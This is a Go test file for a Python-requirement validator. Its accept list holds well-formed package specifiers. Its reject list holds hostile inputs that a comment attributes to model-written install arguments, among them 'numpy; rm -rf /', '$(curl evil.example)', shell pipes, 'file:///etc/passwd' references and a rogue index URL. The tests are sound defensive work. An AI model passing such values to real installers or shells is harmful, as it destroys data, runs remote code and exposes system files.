package pypkg

import (
	"strings"
	"testing"
)

func TestCheckRequirementTakesNamesExtrasAndVersions(t *testing.T) {
	for _, req := range []string{
		"numpy", "scikit-learn", "zope.interface", "ruamel.yaml", "Pillow", "a", "x2",
		"requests>=2.31,<3", "pandas[excel]==2.2.*", "pandas[excel,performance]", "black~=24.1",
		"torch==2.3.0+cpu", "pip!=23.1", "foo==1!2.0", "foo>=1.0rc1", "foo==1.0.post1", "foo<2.0.dev0",
	} {
		if err := CheckRequirement(req); err != nil {
			t.Errorf("%q: %v", req, err)
		}
	}
}

// What model-written install arguments try: direct references, URLs,
// paths, options, markers, whitespace, control characters and shell text.
func TestCheckRequirementRefusesAllElse(t *testing.T) {
	for _, req := range []string{
		"", "name @ file:///etc/passwd", "name@file:///etc/passwd", "https://evil.example/x.whl",
		"git+https://github.com/a/b", "/etc/passwd", "./pkg", "../pkg", `C:\pkg`, "pkg.whl", "pkg-1.0.tar.gz",
		"-r/etc/passwd", "--index-url=http://evil.example", "-e.", "requests; os_name=='nt'",
		"requests >= 2", "numpy\nrequests", "numpy\r", "numpy\x00", "numpy\t", "numpÿ",
		"numpy; rm -rf /", "$(curl evil.example)", "`id`", "numpy|sh", "numpy&&id", "numpy>1 || id",
		"pandas[excel", "pandas[]", "pandas[ex cel]", "numpy===1.0", "numpy==", "numpy=1", "numpy>=1.*",
		"numpy==1.*.2", "numpy==1.0,", "-numpy", "numpy-", ".numpy", strings.Repeat("a", MaxRequirementBytes+1),
	} {
		err := CheckRequirement(req)
		if err == nil {
			t.Errorf("%q was taken", req)
			continue
		}
		if !strings.Contains(err.Error(), "requests>=2.31,<3") {
			t.Errorf("%q: the error does not say what is taken: %v", req, err)
		}
	}
	if err := CheckRequirements(make([]string, MaxRequirements+1)); err == nil {
		t.Error("too many requirements were taken")
	}
	if err := CheckRequirements([]string{"numpy", "x @ file:///"}); err == nil || !strings.Contains(err.Error(), "x @ file") {
		t.Errorf("%v", err)
	}
}
